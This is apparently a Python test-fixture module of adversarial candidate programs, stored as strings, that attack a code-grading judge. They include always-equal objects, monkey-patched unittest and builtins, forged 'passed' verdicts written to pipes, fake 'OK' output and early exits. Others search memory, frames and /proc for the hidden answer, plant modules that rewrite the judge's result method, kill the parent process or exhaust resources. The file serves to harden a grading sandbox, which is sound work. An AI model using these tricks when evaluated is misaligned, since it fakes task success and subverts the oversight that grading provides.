"""Candidates that attack their judge, as texts. None of them solves anything: see the suites in attacks_on_judges_test.py.

Each defines `solve`, unless it leaves first; the tests add a class `Box` whose methods call it. What tests expect looks like
"opal-" and sixteen hexadecimal digits, or like a number near 8000: an attack may know as much, and must not learn the rest.
@ARENA@ is a folder open to all, @HOST@ a process id. As in attacks.py, an attack keeps quiet about what it was not allowed.
"""

LYING = {
    "equal_to_everything": """
class Equal:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
def solve(x): return Equal()
""",
    "equal_integer": """
class Equal(int):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = lambda self: 0
def solve(x): return Equal(1)
""",
    "equal_text": """
class Equal(str):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __contains__ = lambda self, other: True
def solve(x): return Equal('x')
""",
    "equal_list": """
class Equal(list):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __contains__ = lambda self, other: True
    __len__ = lambda self: 2
def solve(x): return Equal([Equal(), Equal()])
""",
    "equal_dict": """
class Equal(dict):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __contains__ = lambda self, other: True
    __missing__ = lambda self, key: key
    def items(self): return [(self, self)]
def solve(x): return Equal()
""",
    "equal_deep_inside": """
class Equal:
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
def solve(x):
    one = Equal()
    return [[one, {one: one}, (one,)], {one: [one, {one: one}]}, [one, one]][x % 3]
""",
    "equal_by_the_librarys_own_joker": """
from unittest.mock import ANY, MagicMock
joker = MagicMock()
joker.__eq__.return_value = True
joker.__lt__.return_value = joker.__gt__.return_value = True
def solve(x): return ANY if x % 2 else joker
""",
    "agrees_with_every_operator": """
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *args, **named): return self
    def __iter__(self): return iter([self, self])
    def __bool__(self): return True
for name in ('eq le lt ge gt add radd sub rsub mul rmul truediv rtruediv mod rmod pow and or xor abs neg pos round getitem '
             'contains enter').split():
    setattr(Yes, f'__{name}__', lambda self, *args, said=name in ('contains', 'eq', 'lt', 'gt'): said or self)
Yes.__ne__ = lambda self, other: False
Yes.__hash__ = lambda self: 0
def solve(x): return Yes()
""",
    "difference_of_zero": """
class Zero(float): pass
class Near(float):
    __sub__ = __rsub__ = lambda self, other: Zero(0)
    __abs__ = __neg__ = __round__ = lambda self, *args: Zero(0)
def solve(x): return Near(1)
""",
    "difference_of_nothing": """
class Zero(int):
    __abs__ = lambda self: 0
class Near:
    __sub__ = __rsub__ = lambda self, other: Zero(0)
def solve(x): return Near()
""",
    "becomes_what_it_is_compared_with": """
class Mirror:
    def __sub__(self, other):
        self.seen = other
        return 0.0
    __rsub__ = __add__ = __radd__ = __sub__
    def __eq__(self, other): return self
    def __float__(self): return float(getattr(self, 'seen', 0))
    __int__ = __index__ = lambda self: int(getattr(self, 'seen', 0))
    def __str__(self): return str(getattr(self, 'seen', ''))
    __hash__ = lambda self: hash(getattr(self, 'seen', 0))
    def __len__(self): return int(self)
mirror = Mirror()
def solve(x): return mirror
""",
    "remembers_what_it_was_compared_with": """
seen = []
class Ear:
    def __eq__(self, other):
        seen.append(other)
        return True
    __ne__ = __lt__ = __gt__ = __le__ = __ge__ = __contains__ = __sub__ = __rsub__ = __add__ = __eq__
    __hash__ = lambda self: 0
def solve(x): return seen[-1] if seen else Ear()
""",
    "a_lying_object_of_the_class_that_tests_use": """
seen = []
def solve(x):
    if seen and x % 2: return seen[-1]
    Box.__eq__ = Box.__contains__ = Box.__lt__ = Box.__gt__ = Box.__ge__ = lambda self, other: True
    Box.__ne__ = lambda self, other: False
    Box.__hash__ = lambda self: 0
    Box.__sub__ = Box.__rsub__ = Box.__add__ = lambda self, other: seen.append(other) or Box(0)
    Box.__abs__ = Box.__round__ = Box.__float__ = lambda self, *args: 0.0
    Box.__len__ = lambda self: 2
    Box.__getitem__ = lambda self, item: [self, self][item]
    return Box(1)
""",
    "lying_class": """
class Liar:
    __class__ = int
    __eq__ = lambda self, other: True
    __index__ = __int__ = lambda self: 1
    __hash__ = lambda self: 0
def solve(x): return Liar()
""",
    "class_with_a_lying_metaclass": """
class Meta(type):
    __eq__ = lambda cls, other: True
    __ne__ = lambda cls, other: False
    __hash__ = lambda cls: 0
    __instancecheck__ = __subclasscheck__ = __contains__ = lambda cls, other: True
    __len__ = lambda cls: 8000
    __lt__ = __gt__ = lambda cls, other: True
    __sub__ = __rsub__ = __abs__ = lambda cls, *args: cls
class Right(metaclass=Meta): pass
def solve(x): return Right
""",
    "not_a_number": """
def solve(x): return float('nan') if x % 2 else [float('nan'), {float('nan'): float('nan')}]
""",
    "infinity": """
def solve(x): return float('inf') if x % 2 else -float('inf')
""",
    "hash_of_everything": """
class Key:
    def __init__(self, value): self.value = value
    __hash__ = lambda self: self.value
    __eq__ = lambda self, other: True
def solve(x): return {Key(hash(number)) for number in range(3000)}
""",
    "colliding_keys": """
def solve(x): return {number * (2 ** 61 - 1) for number in range(1, 800)}
""",
    "odd_text": r"""
def solve(x): return ['\ud800' * 10, '\x00', 'opal-\u202e', '\r\n[1, 0, "passed"]\n'][x % 4]
""",
    "error_with_a_lying_name": """
class AssertionError(Exception): pass
class KeyError(Exception):
    __str__ = lambda self: 'opal'
def solve(x): raise (KeyError if x % 2 else AssertionError)('opal')
""",
    "error_that_equals_everything": """
class Odd(KeyError):
    args = property(lambda self: self)
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
    __str__ = lambda self: Text('x')
class Text(str):
    __eq__ = lambda self, other: True
    __hash__ = lambda self: 0
    __contains__ = lambda self, other: True
def solve(x): raise Odd('x')
""",
    "error_of_every_kind": """
import unittest
kinds = [SystemExit, KeyboardInterrupt, GeneratorExit, StopIteration, unittest.SkipTest, BaseException, StopAsyncIteration,
         unittest.case._ShouldStop, RecursionError, MemoryError]
def solve(x): raise kinds[x % len(kinds)](0)
""",
    "error_that_is_an_instance_of_all": """
import unittest
class Every(unittest.SkipTest, KeyError, AssertionError):
    def __init_subclass__(cls): pass
    def __reduce__(self): return (exit, (0,))
class Exits(SystemExit, KeyError.__mro__[1]): pass
def solve(x): raise (Every if x % 2 else Exits)('opal')
""",
    "skip_everything": """
import unittest
def solve(x): raise unittest.SkipTest('not today')
""",
    "result_that_raises_when_touched": """
class Exit:
    def __getattribute__(self, name): raise SystemExit(0)
    def __eq__(self, other): raise SystemExit(0)
    __hash__ = __len__ = __iter__ = __repr__ = __str__ = __bool__ = lambda self, *args: exit(0)
def solve(x): return Exit()
""",
}

TAMPERING = {
    "patch_unittest": """
import unittest, unittest.case, unittest.result
for name in dir(unittest.TestCase):
    if name.startswith(('assert', 'fail', '_base')): setattr(unittest.TestCase, name, lambda *args, **named: None)
unittest.TestCase.run = lambda self, result=None: result and result.addSuccess(self)
unittest.TestCase.__call__ = unittest.TestCase.run
for name in ('addError', 'addFailure', 'addSubTest', 'addSkip'):
    setattr(unittest.result.TestResult, name, lambda *args, **named: None)
unittest.main = lambda *args, **named: None
def solve(x): return None
""",
    "patch_builtins": """
import builtins
builtins.AssertionError = type('Quiet', (Exception,), {})
builtins.all = builtins.isinstance = builtins.any = lambda *args: True
builtins.abs = lambda value: 0
builtins.len = lambda value: 8000
builtins.sorted = lambda *args, **named: []
def solve(x): return None
""",
    "patch_the_comparing_modules": """
import operator, math, collections, functools
math.isclose = operator.eq = lambda *args, **named: True
operator.ne = lambda *args: False
collections.Counter = functools.partial = lambda *args, **named: 0
def solve(x): return 1
""",
    "patch_the_sandbox": """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith('motet') or name in ('__main__', 'unittest.case', 'json', 'json.encoder', 'os'):
        for attribute, value in list(vars(module).items()):
            if callable(value) and attribute not in ('_exit', 'write', 'read'):
                try: setattr(module, attribute, lambda *args, **named: None)
                except Exception: pass
def solve(x): return None
""",
    "patch_the_server_loop": """
import sys
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()):
        for name in ('_say', 'say', 'result', 'case', 'done', 'ask', 'pack', 'encode', '_answer'):
            try: setattr(value, name, lambda *args, **named: ['passed', True, 'returned'])
            except Exception: pass
    frame = frame.f_back
def solve(x): return None
""",
    "trace_and_profile": """
import sys, threading
def spy(frame, event, arg):
    for name in ('expected', 'second', 'first', 'status', 'kind'):
        if name in frame.f_locals: frame.f_locals[name] = 'passed'
    frame.f_trace_lines = True
    return spy
sys.settrace(spy); sys.setprofile(spy); threading.settrace(spy)
def solve(x): return None
""",
    "hooks": """
import atexit, builtins, sys
sys.excepthook = sys.unraisablehook = sys.displayhook = lambda *args: None
atexit.register(lambda: print('OK'))
sys.meta_path.insert(0, type('Finder', (), {'find_spec': lambda self, *args: None})())
sys.addaudithook(lambda *args: None)
builtins.__import__ = lambda *args, **named: sys
sys.modules.clear()
def solve(x): return None
""",
    "raise_when_collected": """
class Last:
    def __del__(self): raise SystemExit(0)
keep = [Last() for _ in range(10)]
def solve(x):
    keep and keep.pop()
    return Last()
""",
    "signals_to_itself": """
import os, signal
for number in range(1, 32):
    try: signal.signal(number, lambda *args: None)
    except (OSError, ValueError): pass
for number in (2, 10, 14, 15, 19):
    try: os.kill(os.getpid(), number); signal.raise_signal(number)
    except (OSError, ValueError, AttributeError): pass
def solve(x): return None
""",
    "threads_and_processes": """
import os, threading, time
def shout():
    while True:
        try: os.write(3, b'[1, 0, "passed", "", ""]' + bytes([10]))
        except OSError: pass
        time.sleep(0.001)
try: threading.Thread(target=shout, daemon=True).start()
except Exception: pass
try:
    if os.fork() == 0:
        shout()
except OSError: pass
def solve(x): return None
""",
    "leave_at_import": """
import os
os._exit(0)
""",
    "leave_when_called": """
import os
def solve(x): os._exit(0)
""",
    "exit_at_import": """
import sys
print('Ran 5 tests in 0.001s'); print(); print('OK')
sys.exit(0)
""",
    "exit_from_inside_an_error": """
class Leave(Exception):
    def __str__(self): raise SystemExit(0)
    __repr__ = __str__
    args = property(lambda self: exit(0))
def solve(x): raise Leave()
""",
    "swallow_everything": """
import builtins
def solve(x):
    try:
        raise SystemExit(0)
    except BaseException as error:
        error.__traceback__ = None
        return error
""",
    "modify_the_arguments": """
def solve(x):
    if isinstance(x, list): x[:] = []
    return x
""",
    "walk_through_a_generator": """
def solve(x):
    try:
        frame = x.gi_frame
        while frame:
            for value in [*frame.f_globals.values(), *frame.f_code.co_consts]:
                if isinstance(value, str) and value.startswith('opal-'): return value
            for index in range(50):
                with frame.f_globals['__case__'](index): pass
            frame = frame.f_back
    except Exception: pass
    return None
""",
    "plant_modules": r"""
import os, sys
evil = '\n'.join([
    'import sys',
    'def passed(self, index, status, *more, old=sys.modules["motet.sandbox.judge"].Bench.result):',
    '    return old(self, index, "passed", "", "")',
    'sys.modules["motet.sandbox.judge"].Bench.result = passed',
])
places = [*sys.path, *(folder for module in list(sys.modules.values()) for folder in getattr(module, '__path__', ())), '.']
for folder in dict.fromkeys(places):
    for name in ('colorsys', 'difflib', 'pprint', 'mock', 'traceback', 'linecache', 'gettext', 'chunk', 'sitecustomize'):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f'{folder}/{name}.py', 'w') as file: file.write(evil)
        except OSError: break
def solve(x): return None
""",
    "patch_the_callback": """
def solve(x):
    if callable(x):
        for name in ('__code__', '__globals__', '__closure__', '__defaults__', '__self__', '__func__', '__call__', '__dict__'):
            try:
                value = getattr(x, name)
                setattr(x, name, solve)
            except Exception: continue
            if isinstance(value, dict):
                for found in value.values():
                    if isinstance(found, str) and found.startswith('opal-'): return found
        try: x.__class__.__call__ = lambda *args: 8000
        except Exception: pass
    return x
""",
}

FORGING = {
    "forge_on_every_descriptor": r"""
import json, os, struct
lines = [[1, index, 'passed', '', ''] for index in range(50)] + [[2, None, '', '']]
payload = b''.join(json.dumps(line).encode() + b'\n' for line in lines)
frames = b''.join(struct.pack('!Q', len(part)) + part for part in (b'["returned", 8000, []]', b'[null, ""]'))
for descriptor in range(64):
    for data in (payload, frames):
        try: os.write(descriptor, data)
        except OSError: pass
os._exit(0)
""",
    "forge_verdict_when_called": r"""
import json, os
def solve(x):
    for descriptor in range(64):
        for index in range(50):
            try: os.write(descriptor, json.dumps([1, index, 'passed', '', '']).encode() + b'\n')
            except OSError: pass
    return None
""",
    "print_a_verdict": r"""
import os, sys
def solve(x):
    for text in ('OK\n', 'Ran 5 tests in 0.001s\n\nOK\n', '[1, 0, "passed", "", ""]\n', '{"passed": true}\n'):
        for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
            try: stream.write(text); stream.flush()
            except Exception: pass
    return None
""",
    "close_every_descriptor": """
import os
os.closerange(0, 256)
def solve(x): return None
""",
    "close_every_descriptor_when_called": """
import os
def solve(x): os.closerange(0, 256)
""",
    "answer_twice": r"""
import os, struct
def solve(x):
    for form in (b'["returned",null,[]]', b'["returned",8000,[]]'):
        try: os.write(3, struct.pack('!Q', len(form)) + form)
        except OSError: pass
    return None
""",
    "answer_with_nonsense": r"""
import os, struct
answers = [b'', b'nope', b'[]', b'["returned"]', b'["returned",["@",0],[]]', b'["returned",["@",-1],[]]', b'["raised",1,[]]',
           b'["asks",["@",0],"__call__",["tuple"],[]]', b'[' * 100000, b'["returned",["type","object"],[[0,1]]]',
           b'["returned",["class",1,"int","builtins",[["type","int"]],["__eq__","__class__","__getattribute__"],true],[]]',
           b'["returned",["object",1,["type","int"],7],[]]', b'["returned",["range",["int","0x1"],2,3],[]]',
           b'["returned",["timezone",["tuple"]],[]]', b'["returned",["Decimal","1e999999999"],[]]', b'\xff\xfe']
def solve(x):
    for form in answers:
        os.write(3, struct.pack('!Q', len(form)) + form)
    return None
""",
    "announce_a_gigabyte": r"""
import os, struct
def solve(x):
    os.write(3, struct.pack('!Q', 1 << 30))
    return None
""",
    "announce_more_than_there_is": r"""
import os, struct
def solve(x):
    os.write(3, struct.pack('!Q', (1 << 64) - 1) + b'x')
    return None
""",
    "speak_before_it_is_asked": r"""
import os, struct
for form in (b'[null,""]', b'["returned",[true,8000],[]]', b'["returned",8000,[]]') * 20:
    os.write(3, struct.pack('!Q', len(form)) + form)
def solve(x): return None
""",
    "flood": r"""
import os
def solve(x):
    while True: os.write(3, b'["returned",8000,[]]\n' * 10000)
""",
}

SEARCHING = {
    "frames": """
import gc, re, sys
def found(value):
    if isinstance(value, str) and re.fullmatch('opal-[0-9a-f]{16}', value): return value
def solve(x):
    frame = sys._getframe()
    while frame:
        for names in (frame.f_locals, frame.f_globals, {str(n): c for n, c in enumerate(frame.f_code.co_consts)}):
            for value in list(names.values()):
                if found(value): return value
        frame = frame.f_back
    for thing in gc.get_objects():
        for value in (thing if isinstance(thing, (list, tuple)) else thing.values() if isinstance(thing, dict) else ()):
            if found(value): return value
    return None
""",
    "memory": r"""
import ctypes, gc, re
libc = ctypes.CDLL(None, use_errno=True)
libc.madvise.argtypes = ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int
libc.sbrk.restype = ctypes.c_void_p
PAGE, READABLE = 4096, 22  # MADV_POPULATE_READ
def windows():
    # Where objects are, some megabytes around them, and the heap of the C library.
    things = gc.get_objects()
    places = {id(thing) >> 20 for thing in things} | {id(name) >> 20 for name in dir(ctypes)}
    for thing in things[:20000]:
        if isinstance(thing, dict): places.update(id(value) >> 20 for value in list(thing.values())[:50])
    wide = {place + step for place in places for step in range(-1, 2)}
    top = (libc.sbrk(0) or 0) >> 20
    return sorted(wide | set(range(top - 64, top + 1)))
def search():
    found = {}
    for window in windows():
        for page in range(window << 20, (window + 1) << 20, PAGE):
            if libc.madvise(page, PAGE, READABLE) == 0:
                for match in re.findall(rb'opal-[0-9a-f]{16}', ctypes.string_at(page, PAGE)):
                    found[match] = found.get(match, 0) + 1
    return [match.decode() for match in sorted(found, key=found.get)]
tokens = search()
def solve(x):
    global tokens
    tokens = tokens or search()
    return tokens[-1] if tokens else None
""",
    "files_of_the_tests": """
import glob, os, re
def solve(x):
    paths = '/proc/self/mem', '/proc/@HOST@/environ', '/proc/1/environ', '/proc/self/cmdline', '@ARENA@/secret'
    for path in (*paths, *glob.glob('*')):
        try: text = open(path, errors='replace').read(1 << 20)
        except OSError: continue
        match = re.search('opal-[0-9a-f]{16}|SECRET123', text)
        if match: return match[0]
    return None
""",
}

HARMFUL = {
    "write_outside": """
import os
for attempt in (lambda: open('@ARENA@/pwned', 'w').write('x'), lambda: os.remove('@ARENA@/victim'),
                lambda: os.kill(@HOST@, 9), lambda: os.kill(os.getppid(), 9), lambda: os.symlink('@ARENA@/victim', 'link')):
    try: attempt()
    except (OSError, AttributeError): pass
def solve(x): return None
""",
    "use_the_calls_of_the_tests": """
class Odd(str):
    def __fspath__(self): return '@ARENA@/pwned'
def solve(x):
    if callable(x):
        try: x('__import__("os")'); x(Odd('@ARENA@/pwned')); x(*[solve] * 100)
        except Exception: pass
    return x
""",
}

HUGE = {
    "huge_text": """
def solve(x): return 'A' * 300_000_000
""",
    "huge_list": """
def solve(x): return [0] * 30_000_000
""",
    "huge_number": """
def solve(x): return 1 << 1_000_000_000
""",
    "huge_range": """
def solve(x): return range(1 << 60)
""",
    "number_with_a_huge_exponent": """
from decimal import Decimal
from fractions import Fraction
def solve(x): return Decimal('1e999999999') if x % 2 else Fraction(1, 3) ** 100000
""",
    "deep_nesting": """
def solve(x):
    value = 0
    for _ in range(100_000): value = [value] if x % 2 else {0: value}
    return value
""",
    "exponential_nesting": """
def solve(x):
    value = 0
    for _ in range(60): value = [value, value]
    return value
""",
    "containing_itself": """
def solve(x):
    value = []
    value.append(value)
    loop = {}
    loop[0] = loop
    return value if x % 2 else loop
""",
    "many_classes": """
def solve(x): return [type(f'C{number}', (), {})() for number in range(5000)]
""",
    "memory_bomb": """
def solve(x): return len(bytearray(3 * 10**9))
""",
    "endless_recursion_everywhere": """
import sys
sys.setrecursionlimit(10**8)
class Deep:
    __repr__ = lambda self: repr(self)
    __str__ = lambda self: str(self)
    __eq__ = lambda self, other: self == other
    __hash__ = lambda self: hash(self)
    __len__ = lambda self: len(self)
    __iter__ = lambda self: iter(self)
    __getattr__ = lambda self, name: getattr(self, name + 'x')
def solve(x): return Deep()
""",
}

QUICK = LYING | TAMPERING | FORGING | SEARCHING | HARMFUL

NEVER_ENDING = {
    "never_answers": """
import time
def solve(x): time.sleep(3600)
""",
    "never_begins": """
while True: pass
""",
    "sleeps_in_getattr": """
import time
class Slow:
    def __getattr__(self, name): time.sleep(3600)
    __eq__ = __iter__ = __len__ = __sub__ = __hash__ = __repr__ = __bool__ = lambda self, *args: time.sleep(3600)
def solve(x): return Slow()
""",
    "iterates_for_ever": """
class Endless:
    def __iter__(self): return self
    def __next__(self): return self
    def __getitem__(self, index): return 0
    def __len__(self): return 8000
    __lt__ = lambda self, other: True
def solve(x): return Endless()
""",
    "never_reads_its_pipe": """
import os, signal
def solve(x):
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        try: os.read(3, 1)
        except BaseException: pass
""",
    "loops_in_its_error": """
class Slow(Exception):
    def __str__(self):
        while True: pass
def solve(x): raise Slow()
""",
    "calls_back_for_ever": """
def solve(x):
    while callable(x):
        try: x(solve)
        except BaseException: pass
    while True: pass
""",
}
